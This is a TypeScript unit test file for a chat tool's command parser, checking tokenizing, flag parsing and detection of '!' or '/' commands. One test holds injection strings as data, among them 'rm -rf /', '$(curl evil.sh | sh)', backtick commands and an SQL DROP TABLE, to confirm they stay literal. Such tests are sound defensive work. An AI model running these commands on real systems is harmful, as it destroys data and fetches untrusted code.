import { describe, expect, it } from 'vitest'
import { isCommandLine, looksLikeCommand, parseArgs, stripCommandPrefix, tokenize, withCommandPrefix } from '../../../src/shared/command-grammar'
import { VirgilError } from '../../../src/shared/errors'

function badInput(fn: () => unknown): VirgilError {
  try {
    fn()
  } catch (e) {
    expect(e).toBeInstanceOf(VirgilError)
    expect((e as VirgilError).code).toBe('BAD_INPUT')
    return e as VirgilError
  }
  throw new Error('expected a BAD_INPUT VirgilError')
}

describe('tokenize', () => {
  it.each<[string, string[]]>([
    ['', []],
    ['   \t ', []],
    ['vtip 8.8.8.8', ['vtip', '8.8.8.8']],
    ['  vtip\t 8.8.8.8  ', ['vtip', '8.8.8.8']],
    ["note 'hello world'", ['note', 'hello world']],
    ['note "hello world"', ['note', 'hello world']],
    ["a''b", ['ab']],
    ["x '' y", ['x', '', 'y']],
    ['x "" y', ['x', '', 'y']],
    ['pre"mid dle"post', ['premid dlepost']],
    [`say "it's fine"`, ['say', "it's fine"]],
    [`say 'say "hi"'`, ['say', 'say "hi"']],
    ['say "a \\"quoted\\" word"', ['say', 'a "quoted" word']],
    ['say "back\\\\slash"', ['say', 'back\\\\slash']],
    ['dir "C:\\Program Files\\x"', ['dir', 'C:\\Program Files\\x']],
    ["dir 'C:\\temp\\'", ['dir', 'C:\\temp\\']],
    ["say 'no \\escape'", ['say', 'no \\escape']],
    ['say "keep \\n as is"', ['say', 'keep \\n as is']],
    ['path C:\\Users\\bob\\evil.exe', ['path', 'C:\\Users\\bob\\evil.exe']],
    ['share \\\\srv\\c$', ['share', '\\\\srv\\c$']],
    ['file my\\ report.pdf', ['file', 'my report.pdf']],
    ["it\\'s", ["it's"]],
    ['trailing\\', ['trailing\\']],
    ['multi\nline', ['multi', 'line']]
  ])('%j', (line, expected) => {
    expect(tokenize(line)).toEqual(expected)
  })

  it.each<[string, string[]]>([
    ['vtip 8.8.8.8; rm -rf /', ['vtip', '8.8.8.8;', 'rm', '-rf', '/']],
    ['vtip $(curl evil.sh | sh)', ['vtip', '$(curl', 'evil.sh', '|', 'sh)']],
    ['vtip `id` && whoami || true', ['vtip', '`id`', '&&', 'whoami', '||', 'true']],
    ['vtip "$HOME" ${PATH} *.exe ~', ['vtip', '$HOME', '${PATH}', '*.exe', '~']],
    ['vtip 1.1.1.1>/etc/passwd', ['vtip', '1.1.1.1>/etc/passwd']],
    ["vtip '; DROP TABLE incidents; --'", ['vtip', '; DROP TABLE incidents; --']]
  ])('keeps injection attempts literal: %j', (line, expected) => {
    expect(tokenize(line)).toEqual(expected)
  })

  it.each(["note 'unterminated", 'note "half', 'say "escaped end\\"', "a 'b' 'c"])(
    'rejects an unclosed quote: %j',
    (line) => {
      expect(badInput(() => tokenize(line)).message).toMatch(/^Unclosed quote in the command: /)
    }
  )

  it('shows a shortened command in the unclosed-quote message', () => {
    const message = badInput(() => tokenize(`note "${'x'.repeat(500)}`)).message
    expect(message.length).toBeLessThan(200)
  })
})

describe('parseArgs', () => {
  it.each<[string[], string[], { positional: string[]; flags: Record<string, string | true> }]>([
    [[], [], { positional: [], flags: {} }],
    [['8.8.8.8'], [], { positional: ['8.8.8.8'], flags: {} }],
    [['i-0abc', '--hours', '24'], [], { positional: ['i-0abc'], flags: { hours: '24' } }],
    [['--hours=24', 'x'], [], { positional: ['x'], flags: { hours: '24' } }],
    [['--query=a=b'], [], { positional: [], flags: { query: 'a=b' } }],
    [['--note='], [], { positional: [], flags: { note: '' } }],
    [['--force', 'i-1'], ['force'], { positional: ['i-1'], flags: { force: true } }],
    [['-f', 'i-1'], ['f'], { positional: ['i-1'], flags: { f: true } }],
    [['-n', '5', 'x'], [], { positional: ['x'], flags: { n: '5' } }],
    [['--offset', '-5'], [], { positional: [], flags: { offset: '-5' } }],
    [['-5', '-'], [], { positional: ['-5', '-'], flags: {} }],
    [['--hours', '1', '--hours', '2'], [], { positional: [], flags: { hours: '2' } }],
    [['a', '--', '--hours', '-f'], ['f'], { positional: ['a', '--hours', '-f'], flags: {} }],
    [['--dry-run', '--region', 'eu-west-1'], ['dry-run'], { positional: [], flags: { 'dry-run': true, region: 'eu-west-1' } }]
  ])('%j with switches %j', (tokens, booleans, expected) => {
    const parsed = parseArgs(tokens, booleans)
    expect(parsed.positional).toEqual(expected.positional)
    expect({ ...parsed.flags }).toEqual(expected.flags)
  })

  it.each<[string[], RegExp]>([
    [['--hours'], /^Flag --hours needs a value/],
    [['--hours', '--days', '2'], /^Flag --hours needs a value/],
    [['--hours', '--'], /^Flag --hours needs a value/],
    [['-n'], /^Flag -n needs a value/],
    [['--force=yes'], /^Flag --force is a switch and takes no value/],
    [['--=x'], /is not a valid flag/],
    [['---x'], /is not a valid flag/],
    [['--__proto__=x'], /is not a valid flag/]
  ])('rejects %j', (tokens, message) => {
    expect(badInput(() => parseArgs(tokens, ['force'])).message).toMatch(message)
  })

  it('cannot be tricked into prototype keys', () => {
    const { flags } = parseArgs(['--constructor', 'x'])
    expect(flags['constructor']).toBe('x')
    expect(parseArgs([]).flags['toString']).toBeUndefined()
  })
})

describe('command line detection', () => {
  const words = ['vtip', 'whois', 'ec2']

  it.each<[string, string]>([
    ['/vtip 8.8.8.8', 'vtip 8.8.8.8'],
    ['!vtip 8.8.8.8', 'vtip 8.8.8.8'],
    ['  /whois x', 'whois x'],
    ['//vtip', '/vtip'],
    ['/ vtip', '/ vtip'],
    ['vtip', 'vtip'],
    ['/', '/']
  ])('stripCommandPrefix(%j) = %j', (text, expected) => {
    expect(stripCommandPrefix(text)).toBe(expected)
  })

  it.each<[string, boolean]>([
    ['!vtip 8.8.8.8', true],
    ['/vtip 8.8.8.8', true],
    ['!whois example.com', true],
    ['  !ec2 show i-0abc', true],
    ['!ec2', true],
    ['!vtip "unclosed', true],
    ['!Vtip 8.8.8.8', true],
    // `!` is always a command attempt, so a typo is answered instead of posted as chat
    ['!vtp 8.8.8.8', true],
    // plain lines never run, whatever their first word
    ['vtip 8.8.8.8', false],
    ['Help me read this header', false],
    ['whois owns this box?', false],
    ['hash it out with legal', false],
    ['ec2', false],
    // `/` runs only a known command, so a pasted path stays chat
    ['/var/log/auth.log shows it', false],
    ['/vtipx 8.8.8.8', false],
    ['please !vtip 8.8.8.8', false],
    ['/ vtip', false],
    ['//vtip', false],
    ['!!! urgent', false],
    ['! vtip', false],
    ['', false],
    ['   ', false]
  ])('isCommandLine(%j) = %s', (text, expected) => {
    expect(isCommandLine(text, words)).toBe(expected)
  })
})

describe('offering to run a plain line', () => {
  const words = ['vtip', 'whois', 'ec2', 'help', 'hash']
  it.each<[string, boolean]>([
    ['Help me read this header', true],
    ['whois owns this box?', true],
    ['hash it out with legal', true],
    ['!help', false],
    ['/help', false],
    ['the box is down', false],
    ['', false]
  ])('looksLikeCommand(%j) = %s', (text, expected) => {
    expect(looksLikeCommand(text, words)).toBe(expected)
  })

  it('adds the prefix once', () => {
    expect(withCommandPrefix('vtip 8.8.8.8')).toBe('!vtip 8.8.8.8')
    expect(withCommandPrefix('  whois example.com')).toBe('!whois example.com')
    expect(withCommandPrefix('!vtip 1.1.1.1')).toBe('!vtip 1.1.1.1')
    expect(withCommandPrefix('/vtip 1.1.1.1')).toBe('/vtip 1.1.1.1')
  })
})
